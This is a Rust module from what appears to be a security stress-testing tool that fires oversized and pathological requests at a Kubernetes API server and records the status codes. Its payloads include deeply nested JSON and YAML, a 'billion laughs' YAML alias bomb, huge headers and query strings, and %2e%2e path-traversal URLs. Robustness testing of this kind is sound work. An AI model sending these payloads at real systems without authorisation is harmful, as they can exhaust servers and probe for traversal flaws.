//! Bodies that are deep, wide or self-referring, and heads at the limit.

use std::{
    collections::BTreeMap,
    sync::Mutex,
    time::{Duration, Instant},
};

use bytes::Bytes;
use futures_util::future::join_all;
use tokio::time::{sleep, timeout};

use crate::attack::{ground::Target, report::Told};

/// Bytes of a body: kube-apiserver's limit is 3 MiB.
const BODY_BYTES: usize = (3 << 20) - 1024;
/// Bytes of a head: a little less than 128 KiB with its other lines.
const HEAD_BYTES: usize = 126 << 10;
/// Bodies at the same time.
const AT_ONCE: usize = 8;
/// How long an answer may take.
const ANSWER: Duration = Duration::from_secs(60);
/// Wait after an answer: what hurts is a body, not their rate.
const AGAIN: Duration = Duration::from_millis(10);
const PATH: &str = "/api/v1/namespaces/default/configmaps";

/// All kinds in turn, several at the same time; statuses are counted, 0 is none.
pub(super) async fn giant(target: &Target, told: &mut Told) {
    let end = Instant::now() + target.time;
    let bodies = bodies();
    let statuses = Mutex::new(BTreeMap::<(&str, u16), usize>::new());
    join_all((0..AT_ONCE).map(async |nth: usize| {
        let mut turn = nth;
        while Instant::now() < end {
            let (name, media, body) = &bodies[turn % bodies.len()];
            let answer = timeout(ANSWER, async { target.plain.talk().await?.whole("POST", PATH, Some((media, body.clone()))).await }).await;
            let status = answer.ok().and_then(Result::ok).map_or(0, |(status, _)| status);
            count(&statuses, name, status);
            turn += 1;
            sleep(AGAIN).await;
        }
    }))
    .await;
    for (name, target_path, header) in heads() {
        let answer = timeout(ANSWER, head(target, &target_path, &header)).await;
        count(&statuses, name, answer.ok().flatten().unwrap_or(0));
    }
    let statuses = statuses.into_inner().unwrap_or_default();
    if statuses.keys().any(|(name, status)| *name == "dots" && *status == 200) {
        told.blame("a path with %2e%2e was served".to_owned());
    }
    told.note("statuses", statuses.iter().map(|((name, status), n)| format!("{name}:{status}x{n}")).collect::<Vec<_>>().join(","));
}

fn count<'a>(statuses: &Mutex<BTreeMap<(&'a str, u16), usize>>, name: &'a str, status: u16) {
    if let Ok(mut statuses) = statuses.lock() {
        *statuses.entry((name, status)).or_default() += 1;
    }
}

/// Name, media type, bytes. Each is a List of one object.
fn bodies() -> Vec<(&'static str, &'static str, Bytes)> {
    let list = |inside: &str, before: &str| {
        let meta = r#""kind":"ConfigMap","metadata":{"name":"giant"}"#;
        Bytes::from(format!(r#"{before}{{"apiVersion":"v1","kind":"List","items":[{{"apiVersion":"v1",{meta},"data":{inside}}}]}}"#))
    };
    let (json, yaml) = ("application/json", "application/yaml");
    let deep = format!("{}{}", "[".repeat(BODY_BYTES / 2), "]".repeat(BODY_BYTES / 2));
    let keys = |of: fn(usize) -> String| {
        let mut text = String::from("{");
        let mut n = 0;
        while text.len() < BODY_BYTES {
            text.push_str(&of(n));
            n += 1;
        }
        text + r#""z":""}"#
    };
    let aliases = format!("[{}]", "*a,".repeat(BODY_BYTES / 3));
    // Each level stands for ten of the one below: 10^8 scalars if somebody wrote them out.
    let mut laughs = String::from("&a0 [x,x,x,x,x,x,x,x,x,x]");
    for level in 1..8 {
        let below = vec![format!("*a{}", level - 1); 9].join(",");
        laughs = format!("&a{level} [{laughs},{below}]");
    }
    vec![
        ("json_deep", json, list(&deep, "")),
        ("json_keys", json, list(&keys(|n| format!(r#""{n}":"","#)), "")),
        ("yaml_deep", yaml, list(&deep, "")),
        ("yaml_keys", yaml, list(&keys(|n| format!(r#""{n}": "","#)), "")),
        ("yaml_aliases", yaml, list(&format!(r#"{{"a": &a "x", "b": {aliases}}}"#), "")),
        ("yaml_laughs", yaml, list(&laughs, "")),
        ("yaml_anchors", yaml, list(&keys(|n| format!(r#""{n}": &k{n} "","#)), "")),
        ("yaml_comments", yaml, list("{}", &"#\n".repeat(BODY_BYTES / 2))),
    ]
}

/// Name, target, one further header line.
fn heads() -> Vec<(&'static str, String, String)> {
    vec![
        ("accept", PATH.into(), format!("Accept: {}application/json\r\n", "a/b;q=0.1,".repeat(HEAD_BYTES / 10))),
        ("dots", format!("/api/v1/namespaces/default{}/version", "/%2e%2e".repeat(8000)), String::new()),
        ("dots_short", "/api/v1/namespaces/%2e%2e/configmaps/%2e%2e".into(), String::new()),
        ("query", format!("{PATH}?{}", "a=b&".repeat(15_000)), String::new()),
        ("lines", PATH.into(), "X: y\r\n".repeat(90)),
    ]
}

async fn head(target: &Target, path: &str, line: &str) -> Option<u16> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = &target.plain;
    let mut io = listener.reach(0, crate::http::Protocol::Http1).await.ok()?;
    let token = listener.token().map(|t| format!("Authorization: Bearer {t}\r\n")).unwrap_or_default();
    let head = format!("GET {path} HTTP/1.1\r\nHost: {}\r\n{token}{line}Connection: close\r\n\r\n", listener.authority());
    io.write_all(head.as_bytes()).await.ok()?;
    let mut answer = [0; 12];
    io.read_exact(&mut answer).await.ok()?;
    std::str::from_utf8(&answer[9..]).ok()?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_body_is_as_large_as_it_may_be_and_no_larger() {
        for (name, _, body) in bodies() {
            let least = if name == "yaml_laughs" { 100 } else { BODY_BYTES - 1024 };
            assert!(body.len() >= least && body.len() <= 3 << 20, "{name}: {}", body.len());
        }
        assert!(heads().iter().all(|(_, path, line)| path.len() + line.len() < 128 << 10));
    }

    #[test]
    fn the_body_of_keys_is_json() {
        let (_, _, body) = bodies().swap_remove(1);
        assert!(serde_json::from_slice::<serde_json::Value>(&body).is_ok());
    }
}
